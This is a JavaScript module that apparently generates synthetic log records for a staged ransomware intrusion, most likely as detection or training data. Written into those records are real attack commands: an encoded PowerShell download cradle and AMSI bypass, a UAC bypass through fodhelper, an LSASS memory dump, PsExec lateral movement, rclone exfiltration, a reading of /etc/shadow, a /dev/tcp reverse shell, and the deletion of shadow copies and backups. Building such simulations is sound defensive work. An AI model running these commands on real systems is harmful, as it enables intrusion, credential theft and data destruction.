// What the intruder does, in order: from a document to ransom notes, over two hosts, a web host and the cloud account.
import { CHROME, OFFICE, SERVICES } from './everyday.mjs';
import {
  ADDRESSES,
  asked,
  at,
  audit,
  COMMAND_AND_CONTROL,
  clock,
  cloud,
  connect,
  DROP,
  EVENTLOG,
  guid,
  hashesOf,
  journal,
  logon,
  logonId,
  of,
  run,
  SYS32,
  SYSTEM,
  script,
  security,
  setValue,
  sysmon,
  windows,
  wrote,
} from './records.mjs';

const MEYER = 'CORP\\a.meyer';
const POWERSHELL = `${SYS32}WindowsPowerShell\\v1.0\\powershell.exe`;
const SHELL = { original: 'Cmd.Exe', description: 'Windows Command Processor' };
const STAGE = Buffer.from(
  `IEX (New-Object Net.WebClient).DownloadString('https://${COMMAND_AND_CONTROL}/s')`,
  'utf16le',
).toString('base64');

export function intrusion() {
  const beacon = firstFoothold();
  const elevated = takeRootAndLookAround(beacon);
  stealCredentials(elevated);
  moveToFileServer(elevated);
  const shell = onFileServer();
  collectAndSend(shell);
  reachForTheRest(shell);
  destroy(shell);
}

/** A macro document from a download starts PowerShell, which loads a library. */
function firstFoothold() {
  const browser = { Image: CHROME, ProcessGuid: `{${guid()}}`, ProcessId: '5512', User: MEYER };
  const document = 'C:\\Users\\a.meyer\\Downloads\\Invoice 4471.docm';
  asked(at('7:06'), 'WS01', browser, 'files.invoice-portal.example', COMMAND_AND_CONTROL);
  sysmon(at('7:10'), 'WS01', 15, {
    ...of(browser),
    TargetFilename: `${document}:Zone.Identifier`,
    CreationUtcTime: clock(at('7:10')).replace('T', ' ').slice(0, -1),
    Hash: hashesOf('docm'),
    Contents: '[ZoneTransfer]  ZoneId=3  HostUrl=https://files.invoice-portal.example/Invoice%204471.docm',
  });
  const word = run(
    at('7:41'),
    'WS01',
    MEYER,
    `${OFFICE}WINWORD.EXE`,
    `"${OFFICE}WINWORD.EXE" /n "${document}" /o ""`,
    { description: 'Microsoft Word' },
  );
  const stager = run(at('8:02'), 'WS01', MEYER, POWERSHELL, `powershell.exe -nop -w hidden -enc ${STAGE}`, {
    parent: word,
    original: 'PowerShell.EXE',
    description: 'Windows PowerShell',
  });
  script(
    at('8:03'),
    'WS01',
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
  );
  connect(at('8:04'), 'WS01', stager, COMMAND_AND_CONTROL, 443);
  script(
    at('8:06'),
    'WS01',
    "$b=(New-Object Net.WebClient).DownloadData('https://203.0.113.44/l');[IO.File]::WriteAllBytes('C:\\ProgramData\\od.dll',$b)",
  );
  wrote(at('8:07'), 'WS01', stager, 'C:\\ProgramData\\od.dll');
  const beacon = run(
    at('8:09'),
    'WS01',
    MEYER,
    `${SYS32}rundll32.exe`,
    'rundll32.exe C:\\ProgramData\\od.dll,Start',
    { parent: stager, original: 'RUNDLL32.EXE', description: 'Windows host process (Rundll32)' },
  );
  for (const time of ['8:11', '9:11', '13:12', '19:14', '27:10'])
    connect(at(time), 'WS01', beacon, COMMAND_AND_CONTROL, 443);
  return beacon;
}

/** Autostart and task; whoami and company; a way around the consent prompt; an exclusion from the antivirus. */
function takeRootAndLookAround(beacon) {
  const runKey =
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync';
  const reg = run(
    at('9:40'),
    'WS01',
    MEYER,
    `${SYS32}reg.exe`,
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d "rundll32 C:\\ProgramData\\od.dll,Start" /f',
    { parent: beacon, original: 'reg.exe', description: 'Registry Console Tool' },
  );
  setValue(at('9:40'), 'WS01', reg, runKey, 'rundll32 C:\\ProgramData\\od.dll,Start');
  const task = 'rundll32.exe C:\\ProgramData\\od.dll,Start';
  run(
    at('10:05'),
    'WS01',
    MEYER,
    `${SYS32}schtasks.exe`,
    `schtasks /create /f /sc hourly /tn "OneDrive Sync" /tr "${task}"`,
    { parent: beacon, original: 'schtasks.exe', description: 'Task Scheduler Configuration Tool' },
  );
  security(at('10:06'), 'WS01', 4698, {
    SubjectUserName: 'a.meyer',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('WS01', MEYER),
    TaskName: '\\OneDrive Sync',
    TaskContent:
      '<Task version="1.2"><Actions Context="Author"><Exec><Command>rundll32.exe</Command><Arguments>C:\\ProgramData\\od.dll,Start</Arguments></Exec></Actions></Task>',
  });
  const looks = [
    ['11:20', 'whoami.exe', 'whoami /all', 'whoami.exe'],
    ['11:32', 'systeminfo.exe', 'systeminfo', 'sysinfo.exe'],
    ['11:50', 'net.exe', 'net group "Domain Admins" /domain', 'net.exe'],
    ['12:08', 'nltest.exe', 'nltest /domain_trusts /all_trusts', 'nltestrk.exe'],
    ['12:20', 'net.exe', 'net view \\\\FS01 /all', 'net.exe'],
    ['12:41', 'NETSTAT.EXE', 'netstat -ano', 'netstat.exe'],
  ];
  for (const [time, name, line, original] of looks) {
    run(at(time), 'WS01', MEYER, SYS32 + name, line, {
      parent: beacon,
      original,
      description: 'Windows tool',
    });
  }
  const handler =
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107_Classes\\ms-settings\\shell\\open\\command\\';
  setValue(at('14:30'), 'WS01', beacon, `${handler}(Default)`, task);
  setValue(at('14:30'), 'WS01', beacon, `${handler}DelegateExecute`, '(Empty)');
  const prompt = run(at('14:33'), 'WS01', MEYER, `${SYS32}fodhelper.exe`, `"${SYS32}fodhelper.exe"`, {
    parent: beacon,
    integrity: 'High',
    description: 'Features On Demand Helper',
  });
  const elevated = run(at('14:34'), 'WS01', MEYER, `${SYS32}rundll32.exe`, task, {
    parent: prompt,
    integrity: 'High',
    original: 'RUNDLL32.EXE',
    description: 'Windows host process (Rundll32)',
  });
  run(
    at('15:10'),
    'WS01',
    MEYER,
    POWERSHELL,
    'powershell -c Add-MpPreference -ExclusionPath C:\\ProgramData',
    { parent: elevated, integrity: 'High', original: 'PowerShell.EXE', description: 'Windows PowerShell' },
  );
  windows(at('15:12'), 'WS01', 'Microsoft-Windows-Windows Defender/Operational', 5007, {
    'Product Name': 'Microsoft Defender Antivirus',
    'Old Value': '',
    'New Value': 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0',
  });
  return elevated;
}

/** The memory of LSASS goes to a file by way of a system library. */
function stealCredentials(elevated) {
  const dumper = run(
    at('18:02'),
    'WS01',
    MEYER,
    `${SYS32}rundll32.exe`,
    `rundll32.exe ${SYS32}comsvcs.dll, MiniDump 724 C:\\ProgramData\\lsass.dmp full`,
    {
      parent: elevated,
      integrity: 'High',
      original: 'RUNDLL32.EXE',
      description: 'Windows host process (Rundll32)',
    },
  );
  sysmon(at('18:02'), 'WS01', 10, {
    SourceProcessGUID: dumper.ProcessGuid,
    SourceProcessId: dumper.ProcessId,
    SourceThreadId: '5120',
    SourceImage: dumper.Image,
    TargetProcessGUID: `{${guid()}}`,
    TargetProcessId: '724',
    TargetImage: `${SYS32}lsass.exe`,
    GrantedAccess: '0x1fffff',
    CallTrace:
      'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.DLL+6ce3|C:\\Windows\\System32\\comsvcs.dll+25b1',
    SourceUser: MEYER,
    TargetUser: SYSTEM,
  });
  wrote(at('18:03'), 'WS01', dumper, 'C:\\ProgramData\\lsass.dmp');
}

/** A stolen service account, a renamed PsExec, and the file server answers. */
function moveToFileServer(elevated) {
  security(at('21:00'), 'WS01', 4648, {
    SubjectUserName: 'a.meyer',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('WS01', MEYER),
    TargetUserName: 'svc_deploy',
    TargetDomainName: 'CORP',
    TargetServerName: 'FS01.corp.example',
    TargetInfo: 'cifs/FS01.corp.example',
    ProcessName: 'C:\\ProgramData\\px.exe',
    IpAddress: '-',
    IpPort: '-',
  });
  const client = run(
    at('21:01'),
    'WS01',
    MEYER,
    'C:\\ProgramData\\px.exe',
    'C:\\ProgramData\\px.exe -accepteula \\\\FS01 -u CORP\\svc_deploy -p ******** -s cmd.exe',
    { parent: elevated, integrity: 'High', original: 'psexec.c', description: 'Execute processes remotely' },
  );
  connect(at('21:02'), 'WS01', client, ADDRESSES.FS01, 445, 'FS01.corp.example');
  logon(at('21:02'), 'FS01', 'svc_deploy', 3, ADDRESSES.WS01);
  const subject = {
    SubjectUserName: 'svc_deploy',
    SubjectDomainName: 'CORP',
    SubjectLogonId: logonId('FS01', 'svc_deploy'),
  };
  security(at('21:03'), 'FS01', 5140, {
    ...subject,
    ObjectType: 'File',
    IpAddress: ADDRESSES.WS01,
    IpPort: '50122',
    ShareName: '\\\\*\\ADMIN$',
    ShareLocalPath: '\\??\\C:\\Windows',
    AccessMask: '0x1',
  });
  security(at('21:03'), 'FS01', 5145, {
    ...subject,
    ObjectType: 'File',
    IpAddress: ADDRESSES.WS01,
    IpPort: '50122',
    ShareName: '\\\\*\\ADMIN$',
    RelativeTargetName: 'PSEXESVC.exe',
    AccessMask: '0x12019f',
    AccessList: '%%4417',
  });
  windows(at('21:04'), 'FS01', 'System', 7045, {
    ServiceName: 'PSEXESVC',
    ImagePath: '%SystemRoot%\\PSEXESVC.exe',
    ServiceType: 'user mode service',
    StartType: 'demand start',
    AccountName: 'LocalSystem',
  });
}

function onFileServer() {
  const service = run(at('21:05'), 'FS01', SYSTEM, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', {
    parent: SERVICES,
    original: 'psexesvc.exe',
    description: 'PsExec Service',
  });
  sysmon(at('21:05'), 'FS01', 17, {
    EventType: 'CreatePipe',
    ...of(service),
    PipeName: '\\PSEXESVC-WS01-6120-stdin',
  });
  return run(at('21:06'), 'FS01', SYSTEM, `${SYS32}cmd.exe`, 'cmd.exe', { parent: service, ...SHELL });
}

/** Two folders under a password, then out with a renamed copy of rclone. */
function collectAndSend(shell) {
  run(at('23:15'), 'FS01', SYSTEM, `${SYS32}whoami.exe`, 'whoami', { parent: shell, original: 'whoami.exe' });
  const rar = run(
    at('24:30'),
    'FS01',
    SYSTEM,
    'C:\\Program Files\\WinRAR\\Rar.exe',
    'rar.exe a -hpQ4-finance -r -v500m C:\\ProgramData\\f.rar D:\\Finance D:\\HR',
    { parent: shell, original: 'Rar.exe', description: 'Command line RAR' },
  );
  for (const part of [1, 2, 3])
    wrote(at(`2${4 + part}:0${part}`), 'FS01', rar, `C:\\ProgramData\\f.part${part}.rar`);
  const sender = run(
    at('28:20'),
    'FS01',
    SYSTEM,
    'C:\\Users\\Public\\svchost.exe',
    'C:\\Users\\Public\\svchost.exe copy C:\\ProgramData store:q4 --include f.part* --config C:\\ProgramData\\r.conf --transfers 8',
    { parent: shell, original: 'rclone.exe', description: 'Rsync for cloud storage' },
  );
  asked(at('28:21'), 'FS01', sender, 'objects.drop-storage.example', DROP);
  for (const time of ['28:22', '29:40', '31:15'])
    connect(at(time), 'FS01', sender, DROP, 443, 'objects.drop-storage.example');
}

/** A key and an access key found in scripts on the share open the web host and the cloud account. */
function reachForTheRest(shell) {
  run(
    at('30:02'),
    'FS01',
    SYSTEM,
    `${SYS32}findstr.exe`,
    'findstr /si password D:\\IT\\*.ps1 D:\\IT\\*.config',
    { parent: shell, original: 'FINDSTR.EXE', description: 'Find String (QGREP) Utility' },
  );
  journal(
    at('31:30'),
    'sshd',
    `Accepted publickey for deploy from ${ADDRESSES.FS01} port 50733 ssh2: ED25519 SHA256:9mX0`,
    { user: 'deploy', src_ip: ADDRESSES.FS01 },
  );
  audit(at('32:05'), 'EXECVE', { argc: '3', a0: 'sudo', a1: 'cat', a2: '/etc/shadow' });
  audit(at('32:05'), 'SYSCALL', {
    arch: 'c000003e',
    syscall: '257',
    success: 'yes',
    exit: '3',
    ppid: '5110',
    pid: '5113',
    auid: '1001',
    uid: '0',
    comm: 'cat',
    exe: '/usr/bin/cat',
    key: 'shadow-read',
  });
  audit(at('32:40'), 'EXECVE', {
    argc: '3',
    a0: 'bash',
    a1: '-c',
    a2: `bash -i >& /dev/tcp/${COMMAND_AND_CONTROL}/443 0>&1`,
  });
  const stolen = {
    user: 'backup-writer',
    from: DROP,
    agent: 'Boto3/1.35.60 Python/3.12',
    key: 'AKIAI44QH8DHBEXAMPLE',
  };
  cloud(at('33:01'), 'sts', 'GetCallerIdentity', stolen);
  cloud(at('33:09'), 's3', 'ListBuckets', stolen);
  cloud(at('33:48'), 'iam', 'CreateAccessKey', {
    ...stolen,
    request: { userName: 'ci-deploy' },
    response: { accessKey: { userName: 'ci-deploy', accessKeyId: 'AKIAEXAMPLE2NEWKEY00', status: 'Active' } },
  });
}

/** Traces, copies and backups go; the notes appear. */
function destroy(shell) {
  const steps = [
    ['34:20', 'net.exe', 'net stop "Veeam Backup Service" /y', 'net.exe'],
    ['35:02', 'wevtutil.exe', 'wevtutil cl Security', 'wevtutil.exe'],
    ['36:10', 'vssadmin.exe', 'vssadmin.exe Delete Shadows /All /Quiet', 'VSSADMIN.EXE'],
    ['36:22', 'wbadmin.exe', 'wbadmin DELETE CATALOG -quiet', 'WBADMIN.EXE'],
    ['36:31', 'bcdedit.exe', 'bcdedit /set {default} recoveryenabled No', 'bcdedit.exe'],
  ];
  for (const [time, name, line, original] of steps) {
    run(at(time), 'FS01', SYSTEM, SYS32 + name, line, {
      parent: shell,
      original,
      description: 'Windows tool',
    });
  }
  windows(
    at('35:03'),
    'FS01',
    'Security',
    1102,
    {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: 'FS01$',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x3e7',
    },
    EVENTLOG,
  );
  const locker = run(
    at('37:00'),
    'FS01',
    SYSTEM,
    'C:\\ProgramData\\e.exe',
    'C:\\ProgramData\\e.exe -p D:\\',
    { parent: shell },
  );
  for (const [index, folder] of ['Finance', 'HR', 'Projects'].entries()) {
    wrote(at(`37:1${index}`), 'FS01', locker, `D:\\${folder}\\HOW_TO_DECRYPT_FILES.txt`);
  }
}
